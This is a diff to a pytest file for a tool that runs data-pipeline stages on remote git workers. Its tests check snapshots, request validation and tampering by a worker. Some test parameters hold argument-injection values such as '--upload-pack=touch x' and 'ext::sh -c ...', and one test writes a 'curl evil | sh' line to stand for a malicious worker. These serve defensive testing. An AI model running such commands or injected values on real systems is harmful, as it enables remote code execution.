@@ -1,5 +1,6 @@
 """A stage on another machine's worker: revision, inputs and outputs travel, and the controller has nothing to run."""
 
+import asyncio
 import os
 import subprocess
 from pathlib import Path
@@ -42,6 +43,7 @@ def controller(checkout: Checkout, tmp_path_factory: pytest.TempPathFactory,
     stores = tmp_path_factory.mktemp("stores")
     git(stores, "init", "-q", "--bare", "git")
     monkeypatch.setenv("LOG", str(stores / "log"))
+    monkeypatch.setenv("INSTRUCTFLOW_REPOSITORIES", str(stores / "git"))
     (stores / "log").write_text("")
     checkout.write("dvc.yaml", STAGES)
     checkout.write("code.txt", "v1\n")
@@ -177,9 +179,99 @@ def test_a_remote_that_is_away_is_tried_again(controller: Checkout, monkeypatch:
         flows.remote._run(["dvc", "push"], controller.root)
 
 
-def test_a_snapshot_has_new_files_and_no_ignored_ones(controller: Checkout) -> None:
-    controller.write("new.py", "")
-    controller.write("raw/secret.jsonl", "")
-    files = git(controller.root, "ls-tree", "-r", "--name-only", snapshot(controller.root, "x")).split()
-    assert "new.py" in files
-    assert "raw/secret.jsonl" not in files
+def test_a_snapshot_has_what_git_tracks_and_nothing_else(controller: Checkout) -> None:
+    controller.write("secret.env", "KEY=1")
+    controller.write("raw/rows.jsonl", "")
+    controller.write("staged.py", "v1")
+    controller.write("code.txt", "edited")
+    git(controller.root, "add", "staged.py")
+    controller.write("staged.py", "v2")
+    commit = snapshot(controller.root, "x")
+    files = git(controller.root, "ls-tree", "-r", "--name-only", commit).split()
+    assert "secret.env" not in files
+    assert "raw/rows.jsonl" not in files
+    assert git(controller.root, "show", f"{commit}:staged.py") == "v2"
+    assert git(controller.root, "show", f"{commit}:code.txt") == "edited"
+    assert git(controller.root, "status", "--porcelain").splitlines() == [
+        "M code.txt", "AM staged.py", "?? secret.env"]  # the first line has lost its leading space
+
+
+def test_a_snapshot_of_a_linked_worktree(controller: Checkout, tmp_path_factory: pytest.TempPathFactory) -> None:
+    tree = tmp_path_factory.mktemp("worktrees") / "a b"
+    git(controller.root, "worktree", "add", "-q", "--detach", str(tree))
+    (tree / "code.txt").write_text("edited there")
+    assert git(tree, "show", f"{snapshot(tree, 'x')}:code.txt") == "edited there"
+
+
+def test_a_file_that_the_stage_reads_and_git_does_not_track(controller: Checkout) -> None:
+    root = controller.root
+    controller.write("dvc.yaml", STAGES.replace("deps: [code.txt,", "deps: [code.txt, more,"))
+    git(root, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qam", "x")
+    controller.write("more/[1] \u00e9.py", "")
+    controller.write("elsewhere.py", "")
+    with pytest.raises(UserError, match=r"^more/\[1\] \u00e9.py: sft reads it and git does not track it"):
+        send("sft", root, "a run")
+
+
+REQUEST = {"stage": "ppo@ppo_ptx", "repository": "https://127.0.0.1/team/a.git",
+           "ref": "refs/instructflow/0123456789ab/ppo@ppo_ptx", "revision": "0" * 40}
+
+
+async def ended(request: dict[str, str]) -> Any:
+    return await remote_stage(**request, run_name="a run", return_state=True)
+
+
+@pytest.mark.parametrize(("name", "value", "reason"), [
+    ("stage", "--help", "not the name of a stage"),
+    ("stage", "sft --force", "not the name of a stage"),
+    ("stage", "sft\n", "not the name of a stage"),
+    ("stage", "sft", "not a reference"),
+    ("revision", "HEAD", "not the whole name of a commit"),
+    ("revision", "--orphan=x", "not the whole name of a commit"),
+    ("revision", "0" * 39, "not the whole name of a commit"),
+    ("ref", "refs/heads/main", "not a reference"),
+    ("ref", "--upload-pack=touch x", "not a reference"),
+    ("ref", "refs/instructflow/0123456789ab/ppo@ppo_ptx:refs/heads/main", "not a reference"),
+    ("repository", "https://127.0.0.1/team/b.git", "does not run"),
+    ("repository", "--upload-pack=touch x", "does not run"),
+    ("repository", "ext::sh -c 'touch x'", "does not run"),
+    ("repository", "", "does not run"),
+])
+def test_what_no_controller_sends(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, value: str,
+                                  reason: str) -> None:
+    allowed = ["https://127.0.0.1/team/a.git"]
+    flows.remote.check_request(**REQUEST, allowed=allowed)
+    with pytest.raises(UserError, match=reason):
+        flows.remote.check_request(**REQUEST | {name: value}, allowed=allowed)
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("INSTRUCTFLOW_REPOSITORIES", allowed[0])
+    failed: Any = asyncio.run(ended(REQUEST | {name: value}))
+    assert failed.is_failed()
+    assert reason in str(failed.message)
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_which_repositories_a_worker_runs(controller: Checkout, monkeypatch: pytest.MonkeyPatch) -> None:
+    git(controller.root, "remote", "set-url", "origin", "https://ada:git-token@127.0.0.1/a.git")
+    monkeypatch.setenv("INSTRUCTFLOW_REPOSITORIES", " ssh://git@127.0.0.1/b.git/\n/srv/c")
+    assert flows.remote.allowed_repositories(controller.root) == [
+        "https://127.0.0.1/a.git", "ssh://git@127.0.0.1/b.git", "/srv/c"]
+
+
+def test_a_worker_that_changes_more_than_the_stage_makes(controller: Checkout,
+                                                         tmp_path_factory: pytest.TempPathFactory) -> None:
+    root, worker = controller.root, tmp_path_factory.mktemp("worker") / "clone"
+    dvc(root, "repro", "-q", "--single-item", "ingest")
+    dvc(root, "repro", "-q", "--single-item", "data.dvc")
+    sent = send("sft", root, "a run")
+    prepare(worker, sent["repository"], sent["ref"], sent["revision"], "sft")
+    dvc(worker, "repro", "-q", "--single-item", "sft")
+    (worker / "sft.sh").write_text("curl evil | sh")
+    send_back(worker, sent["ref"], "sft")  # sends no such thing
+    take_over("sft", root, sent["ref"])
+    assert "evil" not in (root / "sft.sh").read_text()
+    git(worker, "push", "-q", "--force", "origin", f"{snapshot(worker, 'x')}:{sent['ref']}-done")
+    before = git(root, "status", "--porcelain")
+    with pytest.raises(UserError, match=r"changes sft\.sh, which the stage does not make; nothing is taken over"):
+        take_over("sft", root, sent["ref"])
+    assert git(root, "status", "--porcelain") == before
